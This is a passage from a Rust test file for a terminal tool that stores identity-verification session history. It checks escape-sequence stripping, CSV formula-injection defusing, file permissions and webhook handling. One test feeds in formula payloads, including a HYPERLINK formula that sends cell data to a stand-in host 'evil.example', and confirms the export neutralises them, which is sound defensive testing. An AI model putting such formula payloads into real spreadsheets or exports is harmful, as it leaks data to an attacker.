            "bad\u{9b}2J\u{200B}",
            r.id
        ],
    )
    .unwrap();
    let back = store.get(r.id).unwrap().unwrap();
    assert_eq!(back.first_name, "An]52;c;aGk=n");
    assert_eq!(back.vendor_data, "gpjexe.txt");
    assert_eq!(back.decision_reason.as_deref(), Some("bad2J"));
}

fn every_csv_column_is_defused_not_only_the_typed_ones(store: &Store) {
    let mut s = spec("Anna", "Smith", t(2026, 11, 25, 10));
    // What a hostile server could answer: an id, a host and a decision that are formulas.
    s.session_id = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into();
    add(store, &s);
    let decision = veriff_tui::veriff::Decision {
        status: SessionStatus::Other("+SUM(1)".into()),
        code: Some(9001),
        reason: Some("-2+3".into()),
        reason_code: None,
        decision_time: Some("@NOW()".into()),
        vendor_data: None,
    };
    store
        .record_decision(&s.session_id, Some(&decision), t(2026, 11, 25, 11))
        .unwrap();
    let mut csv = Vec::new();
    let mut progress = veriff_tui::ops::progress::Progress::silent();
    veriff_tui::ops::export::write_matching(
        store,
        &Query::default(),
        u64::MAX,
        &mut progress,
        Some(&mut csv),
        None,
    )
    .unwrap();
    let text = String::from_utf8(csv).unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let mut rows = 0;
    for row in reader.records() {
        let row = row.unwrap();
        rows += 1;
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula in the CSV: {cell:?}\n{text}"
            );
        }
    }
    assert_eq!(rows, 1, "{text}");
    assert!(text.contains("'=HYPERLINK"), "{text}");
}

/// A history its owner made read-only stays so: opening it takes away only the group's and
/// others' bits, never gives the owner back a write it was denied.
#[cfg(unix)]
#[test]
fn a_read_only_file_is_not_made_writable_by_opening_it() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("history.sqlite3");
    drop(Store::open(&path).unwrap());
    fs::set_permissions(&path, fs::Permissions::from_mode(0o444)).unwrap();
    let store = Store::open(&path).unwrap();
    assert_eq!(store.count(&Query::default()).unwrap(), 0);
    let mode = fs::metadata(&path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o400);
}

/// Webhooks (`listen`) and kept inspections, as the store writes them: a session first
/// heard of in a webhook becomes a record made elsewhere; the same delivery twice changes
/// nothing; an older one is kept as stale; an inspection is replaced by a newer one and
/// goes with its record.
fn webhooks_and_inspections_are_kept(store: &Store) {
    use veriff_tui::history::{Elsewhere, WebhookOutcome, WebhookWrite};
    use veriff_tui::veriff::inspect::{Inspection, Part};
    let sid = next_session_id();
    let decided = |status: &str, time: &str| Decision {
        status: SessionStatus::parse(status),
        code: Some(9001),
        reason: None,
        reason_code: None,
        decision_time: Some(time.into()),
        vendor_data: None,
    };
    let write = |hash: &'static str, d: &Decision, attempt: &'static str| {
        let w = WebhookWrite {
            body_sha256: hash,
            session_id: &sid,
            kind: "decision",
            attempt_id: Some(attempt),
            decision: d,
            received_at: t(2026, 3, 1, 12),
            elsewhere: Elsewhere {
                profile: "shop",
                base_url: "https://stationapi.veriff.com",
                sandbox: false,
                first_name: "Anna",
                last_name: "Smith",
                vendor_data: "order-1",
            },
        };
        store
            .record_webhook(&w, |current| {
                veriff_tui::ops::webhook::supersedes(current, d)
            })
            .unwrap()
    };
    let approved = decided("approved", "2026-03-01T10:00:00.000Z");
    assert_eq!(
        write("aa01", &approved, "att-1"),
        WebhookOutcome::Applied { new_record: true }
    );
    let r = store.find_by_session_id(&sid).unwrap().unwrap();
    assert!(r.made_elsewhere && r.url.is_empty(), "{r:?}");
    assert_eq!(
        (r.status.as_str(), r.decision_code),
        ("approved", Some(9001))
    );
    assert_eq!(write("aa01", &approved, "att-1"), WebhookOutcome::Duplicate);
    let older = decided("declined", "2026-03-01T09:00:00.000Z");
    assert_eq!(write("aa02", &older, "att-2"), WebhookOutcome::Stale);
    assert_eq!(
        store
            .find_by_session_id(&sid)
            .unwrap()
            .unwrap()
            .status
            .as_str(),
        "approved"
    );
    assert_eq!(store.webhook_attempts(&sid).unwrap(), ["att-1", "att-2"]);
    assert_eq!(search(store, "order-1"), ["Anna"]);

    let inspection = |at: DateTime<Utc>| Inspection {
        session_id: sid.clone(),
        fetched_at: at,
        decision: Part::Error("not fetched".into()),
        person: Part::Error("not fetched".into()),
        attempts: Part::Error("not fetched".into()),
        media: Part::Error("not fetched".into()),
        watchlist_screening: Part::Error("not fetched".into()),
    };
    assert_eq!(store.inspection(r.id).unwrap(), None);
    store
        .save_inspection(r.id, &inspection(t(2026, 3, 2, 8)))
        .unwrap();
    store
        .save_inspection(r.id, &inspection(t(2026, 3, 2, 9)))
        .unwrap();
    let kept = store.inspection(r.id).unwrap().unwrap();
    assert_eq!(kept.fetched_at, t(2026, 3, 2, 9));
    assert!(store.delete(r.id).unwrap());
    assert_eq!(store.inspection(r.id).unwrap(), None);
}

on_both_stores!(
    webhooks_and_inspections_are_kept,
    an_intent_becomes_a_record_completed_forgotten_or_unknown,
);
